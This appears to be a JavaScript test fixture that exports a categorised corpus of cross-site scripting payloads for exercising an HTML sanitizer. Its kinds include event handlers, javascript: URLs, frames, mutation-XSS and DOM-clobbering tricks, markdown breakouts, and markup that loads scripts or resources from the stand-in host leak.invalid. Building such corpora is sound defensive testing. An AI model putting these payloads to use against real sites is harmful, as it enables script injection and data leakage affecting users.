/**
 * Markup that means harm, of our own writing, by kind. Each calls `alert` if it can run, or asks `leak.invalid` for
 * something if it can load. Kinds, not names of bugs: what a new browser or library breaks is usually an old kind.
 */
import { readFileSync } from 'node:fs';

const RUN = 'alert(1)';
const LEAK = 'https://leak.invalid';

const EVENTS = [
  `<img src=x onerror=${RUN}>`,
  `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=${RUN}>`,
  `<svg onload=${RUN}></svg>`,
  `<svg/onload=${RUN}//`,
  `<body onload=${RUN}>`,
  `<video src=x onerror=${RUN}></video>`,
  `<video><source src=x onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>题</summary></details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}></select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<p onmouseover=${RUN} onclick=${RUN}>指</p>`,
  `<p tabindex=0 id=x autofocus onfocus=${RUN}>焦点</p>`,
  `<marquee onstart=${RUN}>走</marquee>`,
  `<div style="animation: a 1ms" onanimationstart=${RUN} onanimationend=${RUN}>动</div><style>@keyframes a{}</style>`,
  `<p contenteditable onbeforeinput=${RUN} onpaste=${RUN}>写</p>`,
  `<button popovertarget=p>开</button><p popover id=p onbeforetoggle=${RUN}>层</p>`,
  `<img src=x ONERROR=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror\n=\r${RUN}>`,
  `<img src="x\`x" title="\`&quot; onerror=${RUN}"onerror=${RUN}>`,
];

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src="${LEAK}/a.js"></script>`,
  `<script type=module>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `<template><script>${RUN}</script></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${RUN}></template></div>`,
];

const ADDRESSES = [
  `<a href="javascript:${RUN}">点</a>`,
  `<a href="JaVaScRiPt:${RUN}">点</a>`,
  `<a href="java\tscript:${RUN}">点</a>`,
  `<a href="&#106;avascript&colon;${RUN}">点</a>`,
  `<a href="\u0001javascript:${RUN}">点</a>`,
  `<a href="\u00a0javascript:${RUN}">点</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">点</a>`,
  `<a href="vbscript:${RUN}">点</a>`,
  `<a href="#" xlink:href="javascript:${RUN}">点</a>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>点</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>点</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=a xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#a"/></svg>`,
  `<math href="javascript:${RUN}">点</math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">点</maction></math>`,
  `<form action="javascript:${RUN}"><button>送</button></form>`,
  `<form id=f></form><button form=f formaction="javascript:${RUN}">送</button>`,
  `<input type=image src=x formaction="javascript:${RUN}">`,
  `<img src="javascript:${RUN}">`,
  `<video poster="javascript:${RUN}"></video>`,
  `<base href="javascript:/">`,
  `<area href="javascript:${RUN}">`,
];

const FRAMES = [
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<iframe src="data:text/html,<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="${LEAK}/frame"></iframe>`,
  `<object data="javascript:parent.${RUN}"></object>`,
  `<object data="data:text/html,<script>parent.${RUN}</script>"></object>`,
  `<embed src="javascript:parent.${RUN}">`,
  `<embed src="${LEAK}/embed">`,
  `<frameset onload=${RUN}><frame src="${LEAK}/f"></frameset>`,
  `<portal src="${LEAK}/portal"></portal>`,
];

/** Harmless as first read, harmful when their own serialisation is read again. */
const MUTATIONS = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg><style><img title="</style><img src=x onerror=${RUN}>">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><p title="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<noembed><p title="</noembed><img src=x onerror=${RUN}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>">`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
  `<textarea><p title="</textarea><img src=x onerror=${RUN}>">`,
  `<title><p id="</title><img src=x onerror=${RUN}>">`,
  `<style><p id="</style><img src=x onerror=${RUN}>">`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<svg><desc><noscript><p title="</noscript></desc><img src=x onerror=${RUN}>">`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!--!><img src=x onerror=${RUN}>--!>`,
  `<?xml ><img src=x onerror=${RUN}>?>`,
  `<![CDATA[><img src=x onerror=${RUN}>]]>`,
  `<table><caption><svg><foreignObject><p><style><p title="</style><img src=x onerror=${RUN}>">`,
  `${'<div>'.repeat(520)}<table><caption><img src=x onerror=${RUN}></table>`,
];

const CLOBBERS = [
  ...[
    'parentNode',
    'childNodes',
    'attributes',
    'nodeName',
    'removeChild',
    'children',
    'ownerDocument',
    'innerHTML',
  ].map((name) => `<form onclick=${RUN}><input name=${name}><img src=x onerror=${RUN}>文字</form>`),
  ...['createElement', 'getElementById', 'querySelector', 'body', 'head', 'implementation', 'cookie', 'URL'].map(
    (name) => `<img name=${name} src=x onerror=${RUN}><img id=${name} src=x>`,
  ),
  `<a id=document><a id=document name=currentScript href="${LEAK}/x.js">一</a>`,
  `<form id=x><output name=ownerDocument></output></form><svg onload=${RUN}>`,
];

/** What asks the net for something without being a picture of the article. */
const LEAKS = [
  `<link rel=stylesheet href="${LEAK}/a.css">`,
  `<link rel=prefetch href="${LEAK}/a"><link rel=preload as=image href="${LEAK}/b"><link rel=preconnect href="${LEAK}">`,
  `<style>@import "${LEAK}/b.css"; p{background:url(${LEAK}/c.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${LEAK}/f.woff2)}p{font-family:x}</style><p>字</p>`,
  `<p style="background:url(${LEAK}/d.png)">底</p>`,
  `<p style="list-style:url(${LEAK}/e.png);display:list-item">项</p>`,
  `<meta http-equiv=refresh content="0;url=${LEAK}/r">`,
  `<meta http-equiv=Link content="<${LEAK}/m.css>; rel=stylesheet">`,
  `<a href=https://example.org/ ping="${LEAK}/ping">访</a>`,
  `<table background="${LEAK}/t.png"><tr><td background="${LEAK}/td.png">格</table>`,
  `<svg><filter id=f><feImage href="${LEAK}/fe.png"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  `<video><track default src="${LEAK}/t.vtt"></video>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["${LEAK}/s"]}]}</script>`,
  `<object data="${LEAK}/o.png" type=image/png></object>`,
];

/** Harm in places that hold plain text, or in formats on the way out and in. */
const BREAKOUTS = [
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `</title><img src=x onerror=${RUN}>`,
  `</textarea></style></script><img src=x onerror=${RUN}>`,
  `]]><img src=x onerror=${RUN}>`,
  `--><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `![图](x"onerror="${RUN})`,
  `[点](javascript:${RUN})`,
  `[点](<javascript:${RUN}>)`,
  `[点][一]\n\n[一]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `\`\`\`html\n</code></pre><img src=x onerror=${RUN}>\n\`\`\``,
  `<img src=x onerror=${RUN}\n`,
  `{{constructor.constructor('${RUN}')()}}`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `\u202e<img src=x onerror=${RUN}>\u202c`,
];

const KINDS = { EVENTS, SCRIPTS, ADDRESSES, FRAMES, MUTATIONS, CLOBBERS, LEAKS, BREAKOUTS };

/** Further ones from outside: `XSS_FILE` names a JSON file `{ vectors: [{ payload }] }`. */
function further(path) {
  if (!path) return [];
  const { vectors } = JSON.parse(readFileSync(path, 'utf8'));
  return vectors.map(({ payload }) => ({ kind: 'further', payload }));
}

/** @returns {{ kind: string, payload: string }[]} */
export function allPayloads({ env = process.env } = {}) {
  const own = Object.entries(KINDS).flatMap(([kind, list]) =>
    list.map((payload) => ({ kind: kind.toLowerCase(), payload })),
  );
  return [...own, ...further(env.XSS_FILE)];
}
